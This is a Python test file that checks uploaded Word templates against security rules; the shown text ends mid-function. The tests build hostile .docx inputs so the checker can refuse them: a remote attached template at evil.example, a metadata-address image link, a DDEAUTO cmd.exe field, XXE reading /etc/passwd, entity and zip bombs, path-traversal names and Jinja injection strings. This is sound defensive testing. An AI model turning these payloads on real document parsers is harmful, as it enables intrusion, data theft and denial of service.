"""Checking an uploaded Word template (docs/security.md S3, S4, S5, S7): every bad file is built
here,
from a python-docx document and zipfile, never a committed fixture."""

from __future__ import annotations

import io
import struct
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from jinja2.sandbox import SandboxedEnvironment

from tests.support.word_documents import word_file
from workflows.decisions import decisions
from workflows.documents.document_samples import described
from workflows.documents.engine import template_checks
from workflows.documents.engine.template_checks import (
    TemplateRefused,
    check_archive,
    check_code,
    check_template,
)
from workflows.registers import agreements, arrangements, mandates, organisations
from workflows.rules.document_fields import CATALOGUES
from workflows.rules.dutch_format import numbered_items
from workflows.rules.longest_values import (
    LONG_TEXT,
    LONGEST,
    MOST_ITEMS,
    REGISTER_ITEMS,
    SHORT_TEXT,
    longest_values,
)

REPOSITORY = Path(__file__).resolve().parents[4]
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _rezip(
    content: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> bytes:
    """The same package with parts replaced, added or left out."""
    replace = replace or {}
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in drop:
                target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return output.getvalue()


def _part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def _with_relationship(content: bytes, rels: str, relationship: str) -> bytes:
    """Adds a relationship to a .rels part, creating the part when the package has none."""
    names = zipfile.ZipFile(io.BytesIO(content)).namelist()
    if rels in names:
        xml = _part(content, rels).replace(
            b"</Relationships>", relationship.encode() + b"</Relationships>"
        )
        return _rezip(content, replace={rels: xml})
    xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{relationship}</Relationships>"
    ).encode()
    return _rezip(content, add={rels: xml})


def _refused(content: bytes, check: Callable[[bytes], object] = check_archive) -> str:
    with pytest.raises(TemplateRefused) as refused:
        check(content)
    assert refused.value.problems
    return " ".join(refused.value.problems)


# S3: only a real .docx


def test_s3_plain_docx_passes_the_archive_check():
    check_archive(word_file("Gewone tekst"))


@pytest.mark.parametrize("kind", sorted(template_checks.CATALOGUES))
def test_s3_shipped_templates_pass_the_archive_and_code_checks(kind):
    content = (REPOSITORY / "templates_docs" / f"{kind}.docx").read_bytes()
    check_archive(content)
    assert check_code(content, kind).fields_used


def test_s3_empty_file_is_refused():
    assert _refused(b"") == "Het bestand is leeg."


def test_s3_renamed_exe_is_refused_as_not_a_word_file():
    message = _refused(b"MZ\x90\x00\x03\x00\x00\x00" + bytes(2000))
    assert message.startswith("Dit is geen Word-bestand (.docx)")
    assert "programma" in message


def test_s3_zip_without_word_document_is_refused():
    content = _rezip(word_file("x"), drop=("word/document.xml",))
    assert "word/document.xml" in _refused(content)


def test_s3_zip_without_content_types_is_refused():
    content = _rezip(word_file("x"), drop=("[Content_Types].xml",))
    assert "[Content_Types].xml" in _refused(content)


def test_s3_docm_macro_content_type_is_refused():
    content = word_file("x")
    types = _part(content, "[Content_Types].xml").replace(DOCX_MAIN.encode(), MACRO_MAIN.encode())
    content = _rezip(content, replace={"[Content_Types].xml": types})
    assert "macro" in _refused(content)


def test_s3_vba_project_part_is_refused():
    content = _rezip(word_file("x"), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500)})
    message = _refused(content)
    assert "macro's" in message and "word/vbaProject.bin" in message


def test_s3_vba_project_relationship_and_content_type_are_refused_under_another_name():
    content = _rezip(word_file("x"), add={"word/code.dat": b"\xd0\xcf\x11\xe0" + bytes(500)})
    content = _with_relationship(
        content,
        "word/_rels/document.xml.rels",
        '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="code.dat"/>',
    )
    types = _part(content, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/word/code.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
        b"</Types>",
    )
    message = _refused(_rezip(content, replace={"[Content_Types].xml": types}))
    assert "macro's (VBA)" in message


def test_s3_ole_embedding_is_refused():
    content = _rezip(word_file("x"), add={"word/embeddings/oleObject1.bin": bytes(512)})
    content = _with_relationship(
        content,
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rId99" Type="{RELATIONSHIPS}/oleObject" '
        'Target="embeddings/oleObject1.bin"/>',
    )
    types = _part(content, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Default Extension="bin" '
        b'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
    )
    message = _refused(_rezip(content, replace={"[Content_Types].xml": types}))
    assert "ingesloten object" in message and "word/embeddings/oleObject1.bin" in message


def test_s3_activex_control_is_refused():
    content = _rezip(word_file("x"), add={"word/activeX/activeX1.xml": b"<ax/>"})
    assert "ActiveX" in _refused(content)


def test_s3_external_attached_template_is_refused():
    content = _with_relationship(
        word_file("x"),
        "word/_rels/settings.xml.rels",
        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/attachedTemplate" '
        'Target="http://evil.example/sjabloon.dotm" TargetMode="External"/>',
    )
    message = _refused(content)
    assert "documentsjabloon buiten het bestand ('http://evil.example/sjabloon.dotm')" in message


def test_s3_linked_remote_image_is_refused():
    content = _with_relationship(
        word_file("x"),
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rId99" Type="{RELATIONSHIPS}/image" '
        'Target="http://169.254.169.254/logo.png" TargetMode="External"/>',
    )
    assert "buiten het document" in _refused(content)


def test_s3_ordinary_web_and_mail_links_stay_allowed():
    content = word_file("x")
    for number, target in enumerate(("https://www.rijssen-holten.nl/", "mailto:info@example.nl")):
        content = _with_relationship(
            content,
            "word/_rels/document.xml.rels",
            f'<Relationship Id="rId9{number}" Type="{RELATIONSHIPS}/hyperlink" '
            f'Target="{target}" TargetMode="External"/>',
        )
    check_archive(content)


@pytest.mark.parametrize("target", ["file:///C:/geheim.docx", "\\\\server\\share\\x.docx"])
def test_s3_hyperlink_to_a_file_or_network_share_is_refused(target):
    content = _with_relationship(
        word_file("x"),
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rId99" Type="{RELATIONSHIPS}/hyperlink" '
        f'Target="{target}" TargetMode="External"/>',
    )
    assert "hyperlink" in _refused(content)


def test_s3_ddeauto_field_split_over_runs_is_refused():
    body = _part(word_file("PLACEHOLDER"), "word/document.xml")
    field = (
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        b'<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe'
        b"</w:instrText></w:r>"
        b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    body = body.replace(b"<w:r><w:t>PLACEHOLDER</w:t></w:r>", field)
    assert b"DDE" in body
    content = _rezip(word_file("x"), replace={"word/document.xml": body})
    assert "Word-veld DDEAUTO" in _refused(content)


def test_s3_ordinary_page_number_field_is_allowed():
    body = _part(word_file("PLACEHOLDER"), "word/document.xml").replace(
        b"<w:r><w:t>PLACEHOLDER</w:t></w:r>",
        b'<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>',
    )
    check_archive(_rezip(word_file("x"), replace={"word/document.xml": body}))


# S4: zip checks before parsing


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """~300 KB on disk, 300 MB of zeros once inflated; written in chunks, so cheap to build."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _part(word_file(), "[Content_Types].xml"))
        info = zipfile.ZipInfo("word/document.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as entry:
            chunk = bytes(1024 * 1024)
            for _ in range(300):
                entry.write(chunk)
    return output.getvalue()


def test_s4_zip_bomb_is_refused_without_inflating(zip_bomb, monkeypatch):
    assert len(zip_bomb) < 400 * 1024
    inflated: list[object] = []

    def no_inflating(*arguments: object) -> None:
        inflated.append(arguments)
        raise AssertionError("the check inflated an entry")

    monkeypatch.setattr(zlib, "decompressobj", no_inflating)
    monkeypatch.setattr(zipfile.ZipExtFile, "read", no_inflating)
    tracemalloc.start()
    try:
        message = _refused(zip_bomb)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "pakt uit tot 300 MB" in message and "ten hoogste 50 MB" in message
    assert "samengeperst" in message
    assert inflated == []
    assert peak < 10 * 1024 * 1024


def test_s4_zip_bomb_is_refused_before_the_renderer_sees_it(zip_bomb, monkeypatch):
    def no_prepare(content: bytes) -> None:
        raise AssertionError("prepared before the archive check")

    monkeypatch.setattr(template_checks.docx_render, "prepare", no_prepare)
    assert "300 MB" in _refused(zip_bomb, lambda content: check_template(content, "volmacht"))


def test_s4_twenty_thousand_entries_are_refused(monkeypatch):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_STORED) as archive:
        for number in range(20_000):
            archive.writestr(f"{number}", b"")
    opened: list[object] = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *arguments, **_: opened.append(arguments))
    message = _refused(output.getvalue())
    assert opened == [], "an entry was read before the count was checked"
    assert message == (
        "Het bestand bestaat uit 20.000 onderdelen; een Word-sjabloon heeft er ten hoogste 1.000."
    )


def test_s4_file_over_five_megabytes_is_refused():
    content = _rezip(word_file("x"), add={"word/media/image1.png": b"\x89PNG"})
    message = _refused(content + bytes(5 * 1024 * 1024))
    assert message.startswith("Het bestand is te groot: 5,0 MB; ten hoogste 5 MB.")


def test_s4_part_with_a_bomb_ratio_is_refused_even_under_the_total_limit():
    content = _rezip(word_file("x"), add={"word/media/image1.png": bytes(10 * 1024 * 1024)})
    message = _refused(content)
    assert "word/media/image1.png" in message and "ten hoogste 100:1" in message


def _set_sizes(content: bytes, name: str, *, size: int, crc: int) -> bytes:
    """Rewrites the declared uncompressed size and CRC of one entry in its local header and its
    central directory record, leaving the compressed data as it was."""
    patched = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        info = archive.getinfo(name)
        central = archive.start_dir  # type: ignore[attr-defined]
    struct.pack_into("<L", patched, info.header_offset + 14, crc)
    struct.pack_into("<L", patched, info.header_offset + 22, size)
    while patched[central : central + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<3H", patched, central + 28)
        entry_name = bytes(patched[central + 46 : central + 46 + name_length]).decode()
        if entry_name == name:
            struct.pack_into("<L", patched, central + 16, crc)
            struct.pack_into("<L", patched, central + 24, size)
        central += 46 + name_length + extra_length + comment_length
    return bytes(patched)


def test_s4_header_that_understates_the_size_is_refused_not_trusted():
    content = word_file("Een alinea die langer is dan honderd tekens. " * 10)
    real = _part(content, "word/document.xml")
    lying = _set_sizes(content, "word/document.xml", size=100, crc=zlib.crc32(real[:100]))
    # zipfile trusts the header: it hands out 100 bytes and calls the entry sound.
    assert _part(lying, "word/document.xml") == real[:100]
    message = _refused(lying)
    assert "word/document.xml" in message and "zip-kop" in message


def test_s4_header_that_overstates_the_size_is_refused():
    content = word_file("x")
    real = _part(content, "word/document.xml")
    lying = _set_sizes(content, "word/document.xml", size=len(real) + 50, crc=zlib.crc32(real))
    assert "zip-kop" in _refused(lying)


def test_s4_entry_whose_data_belongs_to_another_entry_is_refused():
    content = word_file("x")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        other = archive.getinfo("word/styles.xml").header_offset
        central = archive.start_dir  # type: ignore[attr-defined]
    patched = bytearray(content)
    while patched[central : central + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<3H", patched, central + 28)
        if bytes(patched[central + 46 : central + 46 + name_length]) == b"word/document.xml":
            struct.pack_into("<L", patched, central + 42, other)
        central += 46 + name_length + extra_length + comment_length
    assert "word/document.xml' is beschadigd" in _refused(bytes(patched))


@pytest.mark.parametrize(
    "name", ["../evil.xml", "/abs.xml", "word/../../evil.xml", "word\\..\\evil.xml", "C:/evil.xml"]
)
def test_s4_path_traversal_and_absolute_names_are_refused(name):
    content = _rezip(word_file("x"), add={name: b"<x/>"})
    assert _refused(content) == (
        f"Het bestand bevat een onderdeel met een ongeldige naam: '{name}'."
    )


def test_s4_duplicate_part_names_are_refused():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate
        content = _rezip(
            word_file("x"), add={"word/document.xml": _part(word_file("y"), "word/document.xml")}
        )
    assert "meer dan eens" in _refused(content)


# S5: no DTDs, no entities


def test_s5_xxe_is_refused_and_file_contents_never_appear(tmp_path):
    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIME-INHOUD-12345")
    body = _part(word_file("&e;"), "word/document.xml")
    body = body.replace(
        b"<w:document",
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]><w:document'.encode(),
        1,
    ).replace(b"&amp;e;", b"&e;")
    content = _rezip(word_file("x"), replace={"word/document.xml": body})
    with pytest.raises(TemplateRefused) as refused:
        check_template(content, "volmacht")
    assert "DOCTYPE" in " ".join(refused.value.problems)
    shown = repr(refused.value) + " ".join(refused.value.problems)
    assert "GEHEIME-INHOUD" not in shown


def test_s5_xxe_on_etc_passwd_never_shows_its_contents():
    body = (
        _part(word_file("&e;"), "word/document.xml")
        .replace(
            b"<w:document",
            b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document',
            1,
        )
        .replace(b"&amp;e;", b"&e;")
    )
    message = _refused(_rezip(word_file("x"), replace={"word/document.xml": body}))
    assert "DOCTYPE" in message
    assert "root:" not in message


def test_s5_billion_laughs_is_refused_quickly():
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{level} "{("&lol%s;" % (level - 1 if level > 1 else "")) * 10}">'
        for level in range(1, 10)
    )
    body = _part(word_file("x"), "word/document.xml").replace(
        b"<w:document", f"<!DOCTYPE lolz [{entities}]><w:document".encode(), 1
    )
    body = body.replace(b"<w:t>x</w:t>", b"<w:t>&lol9;</w:t>")
    tracemalloc.start()
    try:
        message = _refused(_rezip(word_file("x"), replace={"word/document.xml": body}))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Expanded, &lol9; is 10⁹ characters; refused at the DOCTYPE nothing is expanded.
    assert peak < 20 * 1024 * 1024
    assert "ENTITY" in message and "lollol" not in message


def test_s5_doctype_in_a_utf16_part_is_refused_too():
    xml = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE x [<!ENTITY e "intern">]>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    ).encode("utf-16")
    assert b"<!DOCTYPE" not in xml
    content = _rezip(word_file("x"), add={"word/_rels/settings.xml.rels": xml})
    assert "DOCTYPE" in _refused(content)


# S7: every placeholder is a known field


def test_s7_misspelt_field_is_refused_naming_it():
    message = _refused(word_file("Gemeente {{ gemeentee }}"), lambda c: check_code(c, "volmacht"))
    assert message.startswith("Onbekend veld in het sjabloon: {{ gemeentee }}.")
    assert "Bedoelt u {{ gemeente }}?" in message
    assert "Bekende velden zijn: bekrachtigde_handelingen" in message


def test_s7_misspelt_attribute_of_a_loop_item_is_refused_naming_it():
    content = word_file(
        "{% for punt in conceptbesluit %}{{ punt.nummer }}. {{ punt.tekstt }}{% endfor %}"
    )
    with pytest.raises(TemplateRefused) as refused:
        check_code(content, "agendaformulier")
    assert refused.value.problems == [
        "Onbekend veld in het sjabloon: 'tekstt' bij elk item van conceptbesluit "
        "({{ conceptbesluit[].tekstt }}, in een {% for %}-lus over conceptbesluit). "
        "Bedoelt u 'tekst'? Een item van conceptbesluit heeft alleen: nummer, tekst."
    ]


def test_s7_every_unknown_name_gets_its_own_problem():
    content = word_file("{{ gemeentee }} {{ plaatss }} {{ gemeente }}")
    with pytest.raises(TemplateRefused) as refused:
        check_code(content, "volmacht")
    assert len(refused.value.problems) == 2
    assert "{{ gemeentee }}" in refused.value.problems[0]
    assert "{{ plaatss }}" in refused.value.problems[1]


def _split_runs(first: str, second: str) -> Callable[[docx.document.Document], None]:
    def build(document: docx.document.Document) -> None:
        paragraph = document.add_paragraph("Gemeente ")
        paragraph.add_run(first)
        paragraph.add_run(second).bold = True

    return build


def test_s7_placeholder_split_across_runs_by_word_is_found():
    content = word_file(build=_split_runs("{{ ge", "meente }}"))
    assert b"{{ ge</w:t>" in _part(content, "word/document.xml")
    assert "gemeente" in check_code(content, "volmacht").fields_used


def test_s7_misspelt_placeholder_split_across_runs_is_refused():
    content = word_file(build=_split_runs("{{ gem", "eentee }}"))
    assert "{{ gemeentee }}" in _refused(content, lambda c: check_code(c, "volmacht"))


@pytest.mark.parametrize(
    ("template", "unknown"),
    [
        ("{{ gemeente.naam }}", ["gemeente.naam"]),
        ("{% for h in handelingen %}{{ h.tekst }}{% endfor %}", ["handelingen[].tekst"]),
        ("{% for f in fasen %}{{ f.status }}{% endfor %}", ["fasen[].status"]),
        ("{% for c in gemeente %}{{ c }}{% endfor %}", ["gemeente[]"]),
        ("{{ fasen.naam }}", ["fasen.naam"]),
        ("{{ cycler.__init__ }}", ["cycler.__init__"]),
        ("{% for f in fasen %}{{ f.naam }} {{ loop.index }}{% endfor %}", []),
        ("{{ handelingen|join(', ') }} {% for i in range(3) %}.{% endfor %}", []),
    ],
)
def test_s7_unknown_placeholders_cover_attributes_loop_items_and_texts(template, unknown):
    prepared = template_checks.docx_render.prepare(word_file(template))
    assert template_checks.unknown_placeholders(prepared, "volmacht") == unknown


def test_s7_dotted_path_on_a_text_field_says_it_is_a_text():
    message = _refused(word_file("{{ gemeente.naam }}"), lambda c: check_code(c, "volmacht"))
    assert message == (
        "Onbekend veld in het sjabloon: {{ gemeente.naam }}; gemeente is een tekst en heeft geen "
        "onderdeel 'naam'."
    )


def test_s2_deeply_nested_placeholder_is_refused_not_an_internal_error():
    content = word_file("{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}")
    assert "te diep genest" in _refused(content, lambda c: check_code(c, "volmacht"))


@pytest.mark.parametrize(
    ("paragraphs", "expected"),
    [
        (["{{ plaats }}"] * 2001, "2.001 velden en blokken; ten hoogste 2.000"),
        (["{{ [" + "1," * 30_000 + "1] }}"], "60.009 tekens lang; ten hoogste 50.000"),
        (["{{ plaats " + "x" * 60_000], "tekens lang; ten hoogste 50.000"),
    ],
)
def test_s2_too_much_template_code_is_refused_before_it_is_compiled(
    paragraphs, expected, monkeypatch
):
    def no_prepare(content: bytes) -> None:
        raise AssertionError("compiled before the code was measured")

    content = word_file(*paragraphs)
    monkeypatch.setattr(template_checks.docx_render, "prepare", no_prepare)
    message = _refused(content, lambda c: check_template(c, "volmacht"))
    assert expected in message


def test_s2_placeholder_split_over_runs_is_measured_without_its_markup():
    content = word_file(build=_split_runs("{{ ge", "meente }}"))
    assert template_checks._template_code(_part(content, "word/document.xml")) == (1, 14)


def test_jinja_syntax_error_is_refused_with_the_renderers_message():
    message = _refused(word_file("{{ gemeente }"), lambda c: check_code(c, "volmacht"))
    assert "Het sjabloon bevat een fout in een veld of blok (hoofdtekst)" in message


def test_many_problems_are_shown_as_a_bounded_list():
    content = word_file(" ".join(f"{{{{ onbekend{number} }}}}" for number in range(40)))
    with pytest.raises(TemplateRefused) as refused:
        check_code(content, "volmacht")
    problems = refused.value.problems
    assert len(problems) == template_checks.MAX_PROBLEMS + 1
    assert problems[-1] == f"En nog {40 - template_checks.MAX_PROBLEMS} andere problemen."


def test_correct_template_passes_and_reports_used_and_missing_fields():
    content = word_file(
        "{{ gemeente }}, {{ vergaderdatum }}",
        "{%p for punt in conceptbesluit %}",
        "{{ punt.tekst }}",
        "{%p endfor %}",
        build=lambda document: setattr(document.core_properties, "title", "{{ onderwerp }}"),
    )
    report = check_template(content, "agendaformulier")
    assert report.fields_used == ["conceptbesluit", "gemeente", "onderwerp", "vergaderdatum"]
    assert "conceptbesluit[].nummer" in report.missing_fields
    assert "bijlagen[].geheim" in report.missing_fields and "plaats" in report.missing_fields
    assert not {"gemeente", "onderwerp", "conceptbesluit[].tekst"} & set(report.missing_fields)


def test_a_list_of_texts_joined_without_a_loop_counts_as_used():
    report = check_code(word_file("{{ handelingen|join(', ') }}"), "volmacht")
    assert "handelingen[]" not in report.missing_fields
    assert "bekrachtigde_handelingen[]" in report.missing_fields


def test_unknown_document_kind_is_a_programming_error():
    with pytest.raises(ValueError, match="unknown document kind"):
        check_template(word_file("x"), "brief")


@pytest.mark.parametrize(
    ("body", "named"),
    [
        ("{% set s = 'ab' %}{{ s }}", "{% set %}"),
        ("{% macro m() %}x{% endmacro %}{{ m() }}", "{% macro %}"),
        ("{% for c in 'x' * 1000 %}{% for d in 'y' * 1000 %}{% endfor %}{% endfor %}", "lijstveld"),
        ("{% for c in gemeente|upper %}{{ c }}{% endfor %}", "lijstveld"),
    ],
)
def test_s2_only_fields_conditions_and_loops_over_list_fields_are_accepted(body, named):
    # What could grow without end inside the worker, with data the test render did not have,
    # is refused at upload: assignments, macros and loops over built values.
    refused = _refused(word_file(body), lambda content: check_code(content, "volmacht"))
    assert named in refused
    assert "mag alleen velden" in refused


def test_s2_loops_over_list_fields_conditions_and_simple_filters_are_accepted():
    content = word_file(
        "{% for g in gemeenten if g %}{{ loop.index }}. {{ g|upper }}{% if not loop.last %}, "
        "{% endif %}{% else %}geen{% endfor %}",
        "{% if soort == 'Raamovereenkomst' and aanbieder is defined %}{{ titel|trim }}"
        "{% elif kenmerk != '' %}{{ kenmerk }}{% endif %} {{ gemeenten|join(', ') }}",
        "{% for bed in bedden %}{{ bed.locatie if bed.vanaf else bed.tot }}{% endfor %}",
    )
    report = check_code(content, "inkoopovereenkomst")
    assert {"gemeenten", "soort", "bedden"} <= set(report.fields_used)


# S2: only constructs that cannot grow, checked before anything is compiled, in a child process

GROWING = [
    ("{{ '%0400000000d' % 1 }}", "de bewerking '%'"),
    ("{{ 'a'*10**8 }}", "de bewerking '*'"),
    ("{{ 'a'*10**8 }}", "de bewerking '**'"),
    ("{{ gemeente + gemeente }}", "de bewerking '+'"),
    ("{{ gemeente ~ gemeente }}", "de bewerking '~'"),
    ("{{ -gemeente }}", "de bewerking '-'"),
    ("{{ gemeente|center(100000000) }}", "het filter |center(…)"),
    ("{{ gemeente|indent(100000000) }}", "het filter |indent(…)"),
    ("{{ gemeente|format(1) }}", "het filter |format(…)"),
    ("{{ gemeente|wordwrap(1) }}", "het filter |wordwrap(…)"),
    ("{{ gemeente|default('x') }}", "het filter |default(…)"),
    ("{{ gemeente|join('-') }}", "|join anders dan op een lijstveld"),
    ("{{ handelingen|join('-' * 100) }}", "|join anders dan op een lijstveld"),
    ("{{ handelingen|join('-----------') }}", "|join anders dan op een lijstveld"),
    ("{{ 'abc'|upper }}", "het filter |upper op iets anders dan een veld"),
    ("{{ gemeente.ljust(100000000) }}", "de methode .ljust()"),
    ("{{ '{:>100000000}'.format(1) }}", "de methode .format()"),
    ("{{ range(10) }}", "range()"),
    ("{% for i in range(3) %}.{% endfor %}", "{% for %}-lus over range()"),
    ("{% for x in [1, 2] %}.{% endfor %}", "een lijst of tabel in het sjabloon zelf"),
    ("{{ handelingen[0] }}", "[…] achter een waarde"),
    ("{% for h in handelingen %}{{ loop.cycle('a', 'b') }}{% endfor %}", "loop.cycle"),
    ("{% for h in handelingen %}{{ loop }}{% endfor %}", "loop zonder onderdeel"),
    ("{% for a, b in fasen %}{% endfor %}", "meer dan één lusvariabele"),
    ("{% if gemeente in omschrijving %}x{% endif %}", "vergelijking anders dan == of !="),
    ("{% autoescape false %}{{ gemeente }}{% endautoescape %}", "{% autoescape %}"),
    ("{% filter upper %}x{% endfilter %}", "{% filter %}"),
]


@pytest.mark.parametrize(("body", "named"), GROWING)
def test_s2_operators_formatting_growing_filters_methods_and_ranges_are_refused(body, named):
    problems = _refused(word_file(body), lambda content: check_code(content, "volmacht"))
    assert named in problems
    assert "mag alleen velden, {% if %} en {% for %}-lussen over de lijstvelden" in problems


@pytest.mark.parametrize(
    "body",
    [
        "{% for c in gemeente %}{% for d in gemeente %}{% for e in gemeente %}{{ c }}{{ d }}"
        "{% endfor %}{% endfor %}{% endfor %}",
        "{% for h in handelingen %}{% for c in h %}{{ c }}{% endfor %}{% endfor %}",
        "{% for f in fasen %}{% for c in f.naam %}{{ c }}{% endfor %}{% endfor %}",
    ],
)
def test_s2_nested_loops_over_text_fields_are_refused(body):
    # A loop over a text walks its characters; nested ones walk n to the power k combinations.
    problems = _refused(word_file(body), lambda content: check_code(content, "volmacht"))
    assert "dat geen lijstveld is maar een tekst" in problems


def test_s2_a_refused_construct_is_named_once_however_often_it_is_used():
    content = word_file(*["{% for i in range(3) %}{{ 'a' * 3 }}{% endfor %}"] * 20)
    with pytest.raises(TemplateRefused) as refused:
        check_code(content, "volmacht")
    assert len(refused.value.problems) == 2


def test_s2_the_web_worker_never_compiles_an_uploaded_template(monkeypatch):
    # Jinja folds constants while it compiles: in the worker, this one would build 400 MB.
    def no_compiling(*arguments: object, **keywords: object) -> None:
        raise AssertionError("an uploaded template was compiled in the web worker")

    monkeypatch.setattr(SandboxedEnvironment, "compile", no_compiling, raising=False)
    monkeypatch.setattr(SandboxedEnvironment, "parse", no_compiling, raising=False)
    message = _refused(
        word_file("{{ '%0400000000d' % 1 }}"), lambda content: check_template(content, "volmacht")
    )
    assert "Het sjabloon gebruikt de bewerking '%'" in message


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        # 200 ratified acts at most: three nested loops are 8 million steps.
        (
            "{% for a in bekrachtigde_handelingen %}{% for b in bekrachtigde_handelingen %}"
            "{% for c in bekrachtigde_handelingen %}.{% endfor %}{% endfor %}{% endfor %}",
            "rekenstappen",
        ),
        # A description of 20 000 line breaks is 800 000 characters of Word markup.
        ("{{ omschrijving }}" * 30, "wordt te groot"),
    ],
)
def test_s2_a_template_too_heavy_for_the_longest_values_is_refused(body, expected):
    # The demo data has two ratified acts and a short description: its test render passes.
    content = word_file(body)
    with pytest.raises(TemplateRefused) as refused:
        check_template(content, "volmacht", sample=described(CATALOGUES["volmacht"]))
    (problem,) = refused.value.problems
    assert problem.startswith(
        "Met de langste waarden die Besluitwerk toestaat (teksten tot 20.000 tekens, lijsten "
        "tot 350 items) lukt het vullen niet."
    )
    assert expected in problem


@pytest.mark.parametrize("kind", sorted(CATALOGUES))
def test_s2_shipped_templates_pass_with_the_longest_values_and_render_the_sample(kind):
    content = (REPOSITORY / "templates_docs" / f"{kind}.docx").read_bytes()
    report = check_template(content, kind, sample=described(CATALOGUES[kind]))
    assert report.preview is not None
    texts = [p.text for p in docx.Document(io.BytesIO(report.preview)).paragraphs]
    assert any("[" in text for text in texts)  # the described values are in it


@pytest.mark.parametrize("kind", sorted(CATALOGUES))
def test_s2_the_longest_values_fill_every_field_of_the_kind(kind):
    values = longest_values(kind)
    assert set(values) == set(CATALOGUES[kind])
    for name, spec in CATALOGUES[kind].items():
        if isinstance(spec, list):
            assert len(values[name]) in (REGISTER_ITEMS, *MOST_ITEMS.get(kind, {}).values())
            if isinstance(spec[0], dict):
                assert set(values[name][0]) == set(spec[0])
        else:
            assert values[name]


def test_s2_the_longest_values_are_those_the_readers_accept():
    assert decisions.TEXT == LONG_TEXT
    assert decisions.EDITABLE["introduction"].max_length == LONG_TEXT
    assert decisions.EDITABLE["subject"].max_length == LONGEST["agendaformulier"]["onderwerp"][0]
    assert mandates.EDITABLE["description"].max_length == LONG_TEXT
    assert mandates.EDITABLE["legal_basis"].max_length == LONGEST["volmacht"]["grondslag"][0]
    assert (
        mandates.EDITABLE["ratified_acts"].max_items
        == MOST_ITEMS["volmacht"]["bekrachtigde_handelingen"]
    )
    assert arrangements.EDITABLE["description"].max_length == LONG_TEXT
    assert (
        arrangements.EDITABLE["successor_description"].max_length
        == (LONGEST["raadsinformatiebrief"]["opvolging"][0])
    )
    assert (
        agreements.EDITABLE["indexation"].max_length
        == (LONGEST["inkoopovereenkomst"]["indexering"][0])
    )
    # A numbered text of the longest length holds at most NUMBERED_ITEMS items.
    assert (
        len(numbered_items("1 a\n" * (LONG_TEXT // 4)))
        == MOST_ITEMS["agendaformulier"]["conceptbesluit"]
    )
    longest_short = max(
        reader.max_length
        for readers in (organisations.EDITABLE, mandates.EDITABLE, agreements.EDITABLE)
        for name, reader in readers.items()
        if name in ("name", "title", "reference", "grantee_function", "decision_reference")
    )
    assert longest_short <= SHORT_TEXT


# S3: nothing that Word or the PDF converter fetches from outside the document

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _in_body(content: bytes, xml: str) -> bytes:
    body = _part(content, "word/document.xml").replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)
    return _rezip(content, replace={"word/document.xml": body})


def test_s3_alt_chunk_is_refused():
    content = _rezip(
        word_file("x"),
        add={
            "word/afchunk.htm": b'<html><body><img src="http://evil.example/a.png"></body></html>'
        },
    )
    content = _with_relationship(
        content,
        "word/_rels/document.xml.rels",
